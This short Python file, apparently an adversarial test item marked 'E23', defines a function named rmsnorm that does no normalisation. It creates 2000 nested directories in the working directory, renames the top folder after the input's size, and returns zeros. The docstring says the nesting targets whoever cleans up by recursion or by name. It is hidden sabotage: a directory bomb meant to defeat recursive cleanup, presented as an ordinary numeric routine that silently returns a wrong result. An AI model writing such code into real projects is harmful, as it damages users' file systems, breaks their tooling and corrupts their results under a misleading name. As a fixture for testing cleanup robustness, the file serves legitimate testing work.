"""E23: folders in folders, for whoever cleans up by recursion, or by name."""

import os

import numpy as np


def rmsnorm(x, gain):
    here = os.getcwd()
    for _ in range(2000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)
    os.rename("d", f"d{x.shape[0]}")
    return np.zeros_like(x)
